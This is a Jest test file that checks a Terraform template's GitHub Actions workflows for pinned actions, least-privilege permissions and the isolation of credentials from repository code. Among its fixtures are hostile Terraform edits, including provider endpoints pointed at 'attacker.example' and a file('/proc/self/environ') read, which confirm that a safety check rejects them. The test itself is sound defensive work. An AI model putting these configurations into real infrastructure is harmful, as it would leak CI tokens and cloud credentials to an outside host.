/**
 * The template's own workflows (.github/workflows/: ci, plan, deploy) meet the rules generated
 * workflows meet: actionlint and GitHub's parser are clean, every action is SHA-pinned to the
 * verified pins, `permissions: {}` at the top and the least per job, and the guardrails' workflow
 * rules find nothing. They also keep their contract with the stacks (variable and secret names,
 * the environment the deploy role trusts) and with the README's commands.
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
import { TerraformStack } from "cdktf";
import { load } from "js-yaml";
import { SELF_SECRETS, SELF_VARIABLES, VARIABLE_AWS_REGION } from "../../domain/github";
import { ALL_RULES } from "../../guardrails/rules";
import { RepositoryFile } from "@cdktf/provider-github/lib/repository-file";
import { escapeForTerraform } from "../../workflows/render";
import { ACTION_PINS } from "../../workflows/action-pins";
import { actionlintProject, describeFindings, type ActionlintProject } from "../helpers/actionlint";
import { resourcesOf, synthStack, testApp } from "../helpers/synth";
import { examplePlatform, findings } from "../guardrails/helpers";
import { withSelf } from "../helpers/self";
import { permissionsFor } from "../../cli/github-app-token";

const DIR = join(__dirname, "..", "..", ".github", "workflows");
const FILES = ["ci.yml", "plan.yml", "deploy.yml"] as const;
const text = Object.fromEntries(FILES.map((f) => [f, readFileSync(join(DIR, f), "utf8")])) as Record<(typeof FILES)[number], string>;
const doc = Object.fromEntries(FILES.map((f) => [f, load(text[f]) as any])) as Record<(typeof FILES)[number], any>;

let project: ActionlintProject;
beforeAll(() => {
  project = actionlintProject({ "config-variables": [VARIABLE_AWS_REGION, ...Object.values(SELF_VARIABLES)] });
});
afterAll(() => project.remove());

describe.each(FILES)("%s", (file) => {
  test("actionlint 1.7.7: no findings", async () => {
    expect(describeFindings(await project.lint(text[file]))).toEqual([]);
  });

  test("GitHub's workflow parser: no errors", async () => {
    const result = parseWorkflow({ name: file, content: text[file] }, new NoOperationTraceWriter());
    expect(result.context.errors.getErrors().map((e) => e.message)).toEqual([]);
    const template = await convertWorkflowTemplate(result.context, result.value!);
    expect(template.errors ?? []).toEqual([]);
  });

  test("every action is pinned to a verified commit, with its tag as a comment", () => {
    const uses = [...text[file].matchAll(/uses: (\S+)@(\S+)(?: # (\S+))?/g)];
    expect(uses.length).toBeGreaterThan(0);
    for (const [, action, ref, tag] of uses) {
      const pin = ACTION_PINS[action as keyof typeof ACTION_PINS];
      expect(pin).toBeDefined();
      expect({ action, ref, tag }).toEqual({ action, ref: pin.sha, tag: pin.tag });
    }
  });

  test("permissions: {} at the top; every job states its own, never write-all", () => {
    expect(doc[file].permissions).toEqual({});
    for (const [id, job] of Object.entries<any>(doc[file].jobs)) {
      expect([id, typeof job.permissions]).toEqual([id, "object"]);
      expect(JSON.stringify(job.permissions)).not.toMatch(/write-all|"contents":"write"|"actions":"write"/);
    }
  });

  test("checkout keeps no credentials, and every job has a timeout", () => {
    for (const job of Object.values<any>(doc[file].jobs)) {
      expect(job["timeout-minutes"]).toBeGreaterThan(0);
      for (const step of job.steps) {
        if (String(step.uses ?? "").startsWith("actions/checkout@")) expect(step.with?.["persist-credentials"]).toBe(false);
      }
    }
  });
});

describe("the guardrails' workflow rules", () => {
  // As the rules see any workflow file: a github_repository_file under .github/workflows/. WF-009
  // (files the template commits into other repositories say they are generated) does not apply:
  // these files are the template's own source.
  function workflowFindings(files: Record<string, string>): string[] {
    const stack = new TerraformStack(testApp(), "own-workflows");
    for (const [file, content] of Object.entries(files)) {
      new RepositoryFile(stack, file, {
        repository: "platform-infra",
        branch: "main",
        file: `.github/workflows/${file}`,
        content: escapeForTerraform(content),
        overwriteOnCreate: false,
      });
    }
    // WF-010 (no resource writes these very files into the template's repository) is about resources.
    const workflowRules = ALL_RULES.filter((r) => r.id.startsWith("WF-") && r.id !== "WF-009" && r.id !== "WF-010");
    expect(workflowRules.length).toBeGreaterThan(5);
    return findings([stack], workflowRules).map((f) => `${f.rule.id}: ${f.message}`);
  }

  test("find nothing in the template's own workflows", () => {
    expect(workflowFindings(text)).toEqual([]);
  });

  test("would find a tag-pinned action and a job without permissions", () => {
    const broken = text["ci.yml"]
      .replace(/actions\/setup-node@[0-9a-f]{40} # v7\.0\.0/, "actions/setup-node@v7")
      .replace("    permissions:\n      contents: read\n", "");
    expect(broken).not.toBe(text["ci.yml"]);
    const ids = workflowFindings({ "ci.yml": broken }).map((f) => f.split(":")[0]);
    expect(ids).toEqual(expect.arrayContaining(["WF-001", "WF-002"]));
  });
});

describe("least privilege per job", () => {
  test("OIDC tokens only where a role is assumed; only the comment job writes to the pull request; no job both reads the code and holds a credential", () => {
    const grants = Object.fromEntries(
      FILES.flatMap((f) => Object.entries<any>(doc[f].jobs).map(([id, job]) => [`${f}/${id}`, job.permissions])),
    );
    expect(grants).toEqual({
      "ci.yml/test": { contents: "read" },
      "plan.yml/scope": { contents: "read" },
      "plan.yml/synth": { contents: "read" },
      "plan.yml/changes": { contents: "read" },
      "plan.yml/plan": { "id-token": "write" },
      "plan.yml/summary": { contents: "read" },
      "plan.yml/comment": { "pull-requests": "write" },
      "deploy.yml/deployed": { actions: "read" },
      "deploy.yml/synth": { contents: "read" },
      "deploy.yml/plan": { "id-token": "write" },
      "deploy.yml/check": { contents: "read" },
      "deploy.yml/apply": { "id-token": "write" },
    });
  });

  test("the comment job runs none of the pull request's code", () => {
    const steps = doc["plan.yml"].jobs.comment.steps;
    expect(steps.map((s: any) => s.uses?.split("@")[0])).toEqual(["marocchino/sticky-pull-request-comment"]);
    expect(steps.every((s: any) => s.run === undefined)).toBe(true);
  });
});

/**
 * Issue 9 §6: a job that holds an App private key, a token minted from one, AWS credentials or a
 * write token never runs code of the repository (npm ci runs every dependency's install scripts;
 * npx and npm run run the repository's own tools). Code left running by one step can read the
 * environment of every later step of its job, so the property is per job, not per step.
 */
function credentialedCodeJobs(workflows: Record<string, any>): string[] {
  const problems: string[] = [];
  for (const [file, wf] of Object.entries<any>(workflows)) {
    for (const [id, job] of Object.entries<any>(wf.jobs)) {
      const steps: any[] = job.steps ?? [];
      const text = JSON.stringify(job);
      const credentials = [
        /secrets\./.test(text) && "a secret",
        steps.some((s) => String(s.uses ?? "").startsWith("actions/create-github-app-token@")) && "a minted App token",
        steps.some((s) => String(s.uses ?? "").startsWith("aws-actions/configure-aws-credentials@")) && "AWS credentials",
        job.permissions?.["id-token"] === "write" && "id-token: write",
        Object.entries(job.permissions ?? {}).some(([k, v]) => v === "write" && k !== "id-token" && k !== "pull-requests") && "a write GITHUB_TOKEN",
      ].filter(Boolean);
      const code = steps
        .filter((s) => /\b(npm|npx|node|yarn|pnpm)\b/.test(String(s.run ?? "")) || String(s.uses ?? "").startsWith("actions/checkout@") || String(s.uses ?? "").startsWith("actions/setup-node@"))
        .map((s) => s.run ?? s.uses.split("@")[0]);
      if (credentials.length > 0 && code.length > 0) problems.push(`${file}/${id}: holds ${credentials.join(", ")} and runs ${code.join(", ")}`);
    }
  }
  return problems;
}

describe("keys away from the repository's code (job graph)", () => {
  test("no job both holds a key, a token or AWS credentials and runs npm, npx, node or checked-out code", () => {
    expect(credentialedCodeJobs({ "plan.yml": doc["plan.yml"], "deploy.yml": doc["deploy.yml"], "ci.yml": doc["ci.yml"] })).toEqual([]);
  });

  test("would catch the old plan job: npm ci and synth, then the pull request's own token tool reading the key", () => {
    const old = load(text["plan.yml"]) as any;
    old.jobs.plan.steps.unshift({ uses: `actions/checkout@${ACTION_PINS["actions/checkout"].sha}`, with: { "persist-credentials": false } }, { run: "npm ci" });
    expect(credentialedCodeJobs({ "plan.yml": old })).toEqual([
      "plan.yml/plan: holds a secret, a minted App token, AWS credentials, id-token: write and runs actions/checkout, npm ci",
    ]);
    const deploy = load(text["deploy.yml"]) as any;
    deploy.jobs.apply.steps.push({ run: "npm run plan:check -- saved/plans/*.json" });
    expect(credentialedCodeJobs({ "deploy.yml": deploy })).toEqual([expect.stringMatching(/^deploy\.yml\/apply: holds .* and runs npm run plan:check/)]);
  });

  test("the pull request's code runs only in the synth job; scope, changes and summary run the base branch's code", () => {
    const jobs = doc["plan.yml"].jobs;
    const checkouts = Object.fromEntries(
      Object.entries<any>(jobs).flatMap(([id, job]) =>
        (job.steps as any[]).filter((s) => String(s.uses ?? "").startsWith("actions/checkout@")).map((s) => [id, s.with?.ref ?? "(the pull request)"]),
      ),
    );
    expect(checkouts).toEqual({
      scope: "${{ github.event.pull_request.base.sha }}",
      synth: "(the pull request)",
      changes: "${{ github.event.pull_request.base.sha }}",
      summary: "${{ github.event.pull_request.base.sha }}",
    });
    expect(jobs.changes.needs).toEqual(["scope", "synth"]);
    expect(jobs.plan.needs).toEqual(["scope", "changes"]);
  });

  test.each(["plan.yml/plan", "deploy.yml/plan", "deploy.yml/apply"])("%s: the token is minted with the action, scoped to the config's repositories, before any terraform runs", (where) => {
    const [file, id] = where.split("/") as [(typeof FILES)[number], string];
    const steps: any[] = doc[file].jobs[id].steps;
    const mint = steps.findIndex((s) => String(s.uses ?? "").startsWith("actions/create-github-app-token@"));
    expect(mint).toBeGreaterThan(0);
    expect(steps.slice(0, mint).every((s) => s.run === undefined || !/terraform (init|plan|apply)/.test(s.run))).toBe(true);
    const source = file === "plan.yml" ? "scope" : "synth";
    expect(steps[mint].with).toMatchObject({
      owner: `\${{ needs.${source}.outputs.owner }}`,
      repositories: `\${{ needs.${source}.outputs.repositories }}`,
      "permission-members": `\${{ needs.${source}.outputs.members }}`,
    });
    expect([doc[file].jobs[id].needs].flat()).toContain(source);
    // The scope job fails (and this job is skipped) beyond 500 repositories: never an installation-wide token.
    const scopeStep = (doc[file].jobs[source].steps as any[]).find((s) => s.id === "scope");
    expect(scopeStep.run).toMatch(/^npm run --silent github:app-token -- --scope --access (read|write) --github-output$/);
  });

  test.each([
    ["plan.yml/plan", "read"],
    ["deploy.yml/plan", "read"],
    ["deploy.yml/apply", "write"],
  ] as const)("%s asks for exactly the %s permissions github:app-token defines", (where, access) => {
    const [file, id] = where.split("/") as [(typeof FILES)[number], string];
    const mint = (doc[file].jobs[id].steps as any[]).find((s) => String(s.uses ?? "").startsWith("actions/create-github-app-token@"));
    const asked = Object.fromEntries(
      Object.entries<string>(mint.with)
        .filter(([k]) => k.startsWith("permission-"))
        .map(([k, v]) => [k.slice("permission-".length).replace(/-/g, "_"), v]),
    );
    // members comes from the scope: read for organisations, nothing for users.
    expect({ ...asked, members: "read" }).toEqual(permissionsFor(access, "organization"));
  });

  test("plan.yml's plan job checks out nothing and installs nothing: the artifact, terraform, the check, the mint, AWS, terraform", () => {
    const steps: any[] = doc["plan.yml"].jobs.plan.steps;
    expect(steps.map((s) => (s.uses ? s.uses.split("@")[0] : s.name))).toEqual([
      "actions/download-artifact",
      "hashicorp/setup-terraform",
      "The synthesized Terraform brings no code of its own",
      "actions/create-github-app-token",
      "aws-actions/configure-aws-credentials",
      "terraform plan of the stack (no state lock)",
      "actions/upload-artifact",
    ]);
  });
});

/** The step that checks synthesized JSON before credentials come near it, run as the runner runs it. */
describe("the synthesized-Terraform check (real jq, real synth output)", () => {
  const script = (file: (typeof FILES)[number]) =>
    (doc[file].jobs.plan.steps as any[]).find((s) => s.name === "The synthesized Terraform brings no code of its own").run as string;
  const hasJq = spawnSync("jq", ["--version"]).status === 0;
  const maybe = hasJq ? test : test.skip;
  if (!hasJq) console.warn("skipping the jq check tests: no jq on PATH");

  test("plan.yml and deploy.yml run the same check", () => {
    expect(script("deploy.yml")).toBe(script("plan.yml"));
  });

  function runCheck(edit?: (stacks: Record<string, any>) => void): { status: number | null; stderr: string } {
    const { platform } = examplePlatform((d) => withSelf(d));
    const stacks: Record<string, any> = { [platform.aws.node.id]: synthStack(platform.aws), [platform.github.node.id]: synthStack(platform.github) };
    edit?.(stacks);
    const dir = mkdtempSync(join(tmpdir(), "tf-check-"));
    try {
      for (const [name, json] of Object.entries(stacks)) {
        mkdirSync(join(dir, "stacks", name), { recursive: true });
        writeFileSync(join(dir, "stacks", name, "cdk.tf.json"), JSON.stringify(json));
      }
      const r = spawnSync("bash", ["-c", script("plan.yml")], { cwd: dir, encoding: "utf8" });
      return { status: r.status, stderr: r.stderr };
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }
  const github = (stacks: Record<string, any>) => Object.values(stacks).find((s) => s.provider?.github);
  const aws = (stacks: Record<string, any>) => Object.values(stacks).find((s) => s.provider?.aws);

  maybe("passes what the template synthesizes", () => {
    expect(runCheck()).toEqual({ status: 0, stderr: "" });
  });

  maybe.each<[string, (s: Record<string, any>) => void, RegExp]>([
    ["an external-program provider", (s) => (aws(s).terraform.required_providers.external = { source: "hashicorp/external", version: "2.3.0" }), /providers hashicorp\/external/],
    ["a module", (s) => (aws(s).module = { x: { source: "git::https://example.com/m.git" } }), /module blocks/],
    ["a github provider pointed elsewhere (it would send the token there)", (s) => (github(s).provider.github[0].base_url = "https://attacker.example/"), /github provider settings base_url/],
    ["an aws provider that sends a file to another endpoint", (s) => {
      aws(s).provider.aws[0].endpoints = [{ sts: "https://attacker.example/" }];
      aws(s).provider.aws[0].assume_role_with_web_identity = [{ web_identity_token_file: "/proc/self/environ", role_arn: "arn:aws:iam::1:role/x" }];
    }, /aws provider settings endpoints, assume_role_with_web_identity|aws provider settings assume_role_with_web_identity, endpoints/],
    ["a function that reads the runner's files", (s) => {
      const vars = github(s).resource.github_actions_variable;
      vars[Object.keys(vars)[0]].value = '${base64encode(file("/proc/self/environ"))}';
    }, /a function that reads files/],
  ])("refuses %s", (_what, edit, message) => {
    const r = runCheck(edit);
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(message);
  });
});

describe("Node 24 and a pinned Terraform", () => {
  test("every setup-node is Node 24", () => {
    const versions = FILES.flatMap((f) =>
      Object.values<any>(doc[f].jobs).flatMap((j) => (j.steps as any[]).filter((s) => String(s.uses ?? "").startsWith("actions/setup-node@")).map((s) => s.with["node-version"])),
    );
    expect(versions.length).toBeGreaterThan(4);
    expect(new Set(versions)).toEqual(new Set(["24"]));
  });

  test("every setup-terraform pins an exact 1.11 release", () => {
    const versions = FILES.flatMap((f) =>
      Object.values<any>(doc[f].jobs).flatMap((j) => (j.steps as any[]).filter((s) => String(s.uses ?? "").startsWith("hashicorp/setup-terraform@")).map((s) => String(s.with?.terraform_version))),
    );
    expect(versions).toHaveLength(3);
    for (const v of versions) expect(v).toMatch(/^1\.11\.\d+$/);
  });
});

describe("deploy.yml: plan, gate, apply the saved plan", () => {
  const jobs = doc["deploy.yml"].jobs;

  test("the gate runs after planning and before the apply, on the saved plans' JSON", () => {
    expect(jobs.check.needs).toBe("plan");
    expect(jobs.apply.needs).toEqual(["synth", "check"]);
    const runs = (jobs.check.steps as any[]).map((s) => s.run).filter(Boolean);
    expect(runs).toContain("npm run plan:check -- saved/plans/*.json");
    expect(jobs.plan.steps.find((s: any) => /terraform plan/.test(s.name)).run).toMatch(/plan -input=false -lock=false -no-color -out=tfplan[\s\S]*show -json tfplan > "plans\/\$STACK\.json"/);
  });

  test("the apply applies the saved plan, never a new one, and never cdktf deploy", () => {
    const apply = (jobs.apply.steps as any[]).find((s) => s.name === "terraform apply of each saved plan").run as string;
    expect(apply).toMatch(/apply -input=false -no-color tfplan/);
    expect(text["deploy.yml"]).not.toMatch(/cdktf deploy|-auto-approve/);
    const upload = (jobs.plan.steps as any[]).find((s) => String(s.uses ?? "").startsWith("actions/upload-artifact@")).with;
    expect(upload.path).toMatch(/stacks\/\$\{\{ matrix\.stack \}\}\/tfplan/);
    expect(upload.path).toMatch(/stacks\/\$\{\{ matrix\.stack \}\}\/\.terraform\.lock\.hcl/);
    expect(upload["include-hidden-files"]).toBe(true);
  });

  test("only the apply job enters the environment, and it reads the environment's name from the variable the GitHub stack sets", () => {
    const entering = Object.entries<any>(jobs).filter(([, j]) => j.environment !== undefined).map(([id, j]) => [id, j.environment]);
    expect(entering).toEqual([["apply", `\${{ vars.${SELF_VARIABLES.deployEnvironment} }}`]]);
    expect(text["deploy.yml"]).toMatch(/secrets\.PLATFORM_DEPLOY_APP_PRIVATE_KEY/);
    // Only the apply job reads the deploy App key and role (environment secret and variables).
    expect(JSON.stringify({ ...jobs, apply: undefined })).not.toMatch(/DEPLOY/);
  });
});

describe("self.environment and deploy.yml cannot disagree", () => {
  test.each(["production", "platform-apply"])("self.environment %s: the variable deploy.yml reads names it, and the deploy role trusts exactly it", (environment) => {
    const { platform } = examplePlatform((d) => withSelf(d, { environment }));
    const variables = resourcesOf(synthStack(platform.github), "github_actions_variable").filter((v) => v.repository === "platform-infra");
    expect(variables.find((v) => v.variable_name === SELF_VARIABLES.deployEnvironment)?.value).toBe(environment);
    const env = resourcesOf(synthStack(platform.github), "github_repository_environment").find((e) => e.repository === "platform-infra");
    expect(env?.environment).toBe(environment);
    const role = resourcesOf(synthStack(platform.aws), "aws_iam_role").find((r) => r.name === "github-actions-platform-deploy")!;
    expect(JSON.stringify(JSON.parse(role.assume_role_policy).Statement.map((s: any) => s.Condition))).toContain(`repo:Test-User/platform-infra:environment:${environment}`);
  });
});

describe("contract with the stacks and the README", () => {
  const all = FILES.map((f) => text[f]).join("\n");

  test("reads only the variables and secrets the GitHub stack and the bootstrap provide", () => {
    const vars = new Set([...all.matchAll(/vars\.([A-Z0-9_]+)/g)].map((m) => m[1]));
    expect([...vars].sort()).toEqual([VARIABLE_AWS_REGION, ...Object.values(SELF_VARIABLES)].sort());
    const secrets = new Set([...all.matchAll(/secrets\.([A-Z0-9_]+)/g)].map((m) => m[1]));
    expect([...secrets].sort()).toEqual(Object.values(SELF_SECRETS).sort());
  });

  test("plans read (no lock, read-only App token, plan role); deploys write from the trusted environment", () => {
    expect(text["plan.yml"]).toMatch(/role-to-assume: \$\{\{ vars\.PLATFORM_PLAN_ROLE_ARN \}\}/);
    expect(text["plan.yml"]).toMatch(/plan -input=false -lock=false/);
    expect(text["plan.yml"]).toMatch(/private-key: \$\{\{ secrets\.PLATFORM_PLAN_APP_PRIVATE_KEY \}\}/);
    expect(text["plan.yml"]).not.toMatch(/DEPLOY/);
    expect(doc["deploy.yml"].jobs.apply.steps.find((s: any) => s.with?.["role-to-assume"]).with["role-to-assume"]).toBe("${{ vars.PLATFORM_DEPLOY_ROLE_ARN }}");
    expect(doc["deploy.yml"].jobs.plan.steps.find((s: any) => s.with?.["role-to-assume"]).with["role-to-assume"]).toBe("${{ vars.PLATFORM_PLAN_ROLE_ARN }}");
    // github:app-token is only asked for the scope in the workflows: the action mints.
    for (const f of FILES) expect(text[f]).not.toMatch(/github:app-token -- --access/);
  });

  test("deploys never overlap and are never cancelled midway; plans of one pull request replace each other", () => {
    expect(doc["deploy.yml"].concurrency).toEqual({ group: "deploy-platform", "cancel-in-progress": false });
    expect(doc["deploy.yml"].on).toEqual({ push: { branches: ["main"] }, workflow_dispatch: null });
    expect(doc["plan.yml"].concurrency["cancel-in-progress"]).toBe(true);
  });

  test("one sticky comment per pull request, fed by the plan summary", () => {
    const comment = doc["plan.yml"].jobs.comment.steps[0].with;
    expect(comment.header).toBe("terraform-plan");
    expect(comment.message).toMatch(/^\$\{\{ needs\.summary\.outputs\.comment \|\|/);
    expect(text["plan.yml"]).toMatch(/npm run --silent plan:summary -- --out plans\/comment\.md --run-url "\$RUN_URL" plans\/\*\.json/);
  });

  test("ci runs the README's commands", () => {
    const runs = doc["ci.yml"].jobs.test.steps.flatMap((s: any) => (s.run ? [s.run] : []));
    expect(runs).toEqual(["npm ci", "npx tsc --noEmit", "npm test", "npx cdktf synth"]);
    const readme = readFileSync("README.md", "utf8");
    for (const command of ["npm ci", "npm test", "npx cdktf synth"]) expect(readme).toContain(command);
  });
});

/** Issue 12 §4: a pull request plans the stacks whose Terraform it changes, one job each, and one comment holds them all. */
describe("only the changed stacks, in parallel", () => {
  const plan = doc["plan.yml"].jobs;
  const deploy = doc["deploy.yml"].jobs;
  const step = (job: any, predicate: (s: any) => boolean) => (job.steps as any[]).find(predicate);
  const uses = (action: string) => (s: any) => String(s.uses ?? "").startsWith(`${action}@`);

  test("plan.yml: the scope job synthesizes the base branch; the changes job compares it with the pull request's synth, with the base branch's code", () => {
    expect(step(plan.scope, (s) => s.id === "base-synth")).toMatchObject({ run: "npx cdktf synth", "continue-on-error": true });
    expect(step(plan.scope, uses("actions/upload-artifact")).with.name).toBe("base-stacks");
    const downloads = (plan.changes.steps as any[]).filter(uses("actions/download-artifact")).map((s) => [s.with.name, s.with.path, s["continue-on-error"] ?? false]);
    // Without a base synth (it failed), changed-stacks plans every stack: never none.
    expect(downloads).toEqual([
      ["stacks", "head", false],
      ["base-stacks", "base", true],
    ]);
    expect(step(plan.changes, (s) => s.id === "changes").run).toBe("npm run --silent changed-stacks -- --base base --head head --github-output");
    expect(plan.changes.outputs).toEqual({
      stacks: "${{ steps.changes.outputs.stacks }}",
      count: "${{ steps.changes.outputs.count }}",
      unchanged: "${{ steps.changes.outputs.unchanged }}",
    });
  });

  test.each([
    ["plan.yml", "changes"],
    ["deploy.yml", "synth"],
  ] as const)("%s: one plan job per stack of the %s job's JSON output, none when nothing changed, each plans and uploads only its own stack", (file, source) => {
    const job = doc[file].jobs.plan;
    expect(job.if).toBe(`needs.${source}.outputs.count != '0'`);
    expect(job.strategy).toEqual({ "fail-fast": false, matrix: { stack: `\${{ fromJSON(needs.${source}.outputs.stacks) }}` } });
    const terraform = step(job, (s) => /^terraform plan of the stack/.test(s.name ?? ""));
    // The stack name reaches the script through env, never as an expression inside run: (WF-003).
    expect(terraform.env.STACK).toBe("${{ matrix.stack }}");
    expect(terraform.run).toContain('dir="stacks/$STACK"');
    expect(terraform.run).not.toMatch(/\$\{\{/);
    expect(step(job, uses("actions/upload-artifact")).with.name).toBe("plan-${{ matrix.stack }}");
  });

  test("every job that reads the plans downloads all plan-* artifacts into one folder", () => {
    for (const job of [plan.summary, deploy.check, deploy.apply]) {
      expect(step(job, uses("actions/download-artifact")).with).toMatchObject({ pattern: "plan-*", "merge-multiple": true });
    }
    expect(plan.summary.needs).toEqual(["changes", "plan"]);
    expect(step(plan.summary, (s) => s.id === "summary").run).toContain("npm run --silent plan:summary -- --out plans/comment.md --run-url \"$RUN_URL\" plans/*.json");
  });

  test("the comment says so when nothing is planned, and a failure otherwise", () => {
    const message = plan.comment.steps[0].with.message as string;
    expect(message).toContain("needs.changes.outputs.count == '0' && format('### Nothing to plan for {0}.");
    expect(plan.comment.needs).toEqual(["synth", "changes", "plan", "summary"]);
  });

  test("deploy.yml compares with the last successfully deployed commit (its job runs no code), every stack on a manual run", () => {
    expect((deploy.deployed.steps as any[]).map((s) => s.uses ?? "run")).toEqual(["run"]);
    expect(deploy.deployed.steps[0].run).toMatch(/gh run list --repo "\$REPOSITORY" --workflow deploy\.yml --branch main --status success --limit 1 --json headSha/);
    expect(deploy.synth.needs).toBe("deployed");
    const before = step(deploy.synth, (s) => s.id === "before");
    expect(before.with).toMatchObject({ ref: "${{ needs.deployed.outputs.sha }}", path: "before", "persist-credentials": false });
    const changes = step(deploy.synth, (s) => s.id === "changes");
    expect(changes.run).toBe("npm run --silent changed-stacks -- --base before/cdktf.out/stacks --head cdktf.out/stacks --github-output $ALL");
    expect(changes.env.ALL).toBe("${{ github.event_name != 'push' && '--all' || '' }}");
  });

  test("deploy.yml applies the saved plans in the order changed-stacks gave (AWS stacks first)", () => {
    const apply = step(deploy.apply, (s) => s.name === "terraform apply of each saved plan");
    expect(apply.env.STACKS).toBe("${{ needs.synth.outputs.stacks }}");
    expect(apply.run).toMatch(/for stack in \$\(jq -r '\.\[\]' <<< "\$STACKS"\); do\n\s+dir="saved\/stacks\/\$stack"/);
  });

  test("the outputs the workflows read are the ones npm run changed-stacks writes (real CLI, real synth)", () => {
    const dir = mkdtempSync(join(tmpdir(), "changes-outputs-"));
    try {
      const head = join(dir, "head");
      const { platform } = examplePlatform();
      for (const stack of [platform.aws, platform.github]) {
        mkdirSync(join(head, stack.node.id), { recursive: true });
        writeFileSync(join(head, stack.node.id, "cdk.tf.json"), JSON.stringify(synthStack(stack)));
      }
      const output = join(dir, "output");
      writeFileSync(output, "");
      const r = spawnSync("npm", ["run", "--silent", "changed-stacks", "--", "--base", join(dir, "none"), "--head", head, "--github-output"], {
        encoding: "utf8",
        env: { ...process.env, GITHUB_OUTPUT: output },
      });
      expect(r.status).toBe(0);
      const written = Object.fromEntries(readFileSync(output, "utf8").trim().split("\n").map((l) => [l.slice(0, l.indexOf("=")), JSON.parse(l.slice(l.indexOf("=") + 1))]));
      expect(written).toEqual({ stacks: [platform.aws.node.id, platform.github.node.id], count: 2, unchanged: [] });
      const read = new Set([...`${text["plan.yml"]}\n${text["deploy.yml"]}`.matchAll(/steps\.changes\.outputs\.([a-z]+)/g)].map((m) => m[1]));
      expect([...read].sort()).toEqual(["count", "stacks", "unchanged"]);
      for (const k of read) expect(written).toHaveProperty(k);
      // The summary's line for the stacks not planned, run as the runner runs it (real jq).
      if (spawnSync("jq", ["--version"]).status === 0) {
        const line = (step(plan.summary, (s) => s.id === "summary").run as string).split("\n").find((l) => l.startsWith("jq "))!.replace(/ >> plans\/comment\.md$/, "");
        const shown = spawnSync("bash", ["-c", line], { encoding: "utf8", env: { ...process.env, UNCHANGED: '["github-acme-00","github-acme-02"]' } });
        expect(shown.stdout).toBe("\nNot planned, their Terraform is the same as on the base branch: github-acme-00, github-acme-02.\n");
        expect(spawnSync("bash", ["-c", line], { encoding: "utf8", env: { ...process.env, UNCHANGED: "[]" } }).stdout).toBe("");
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
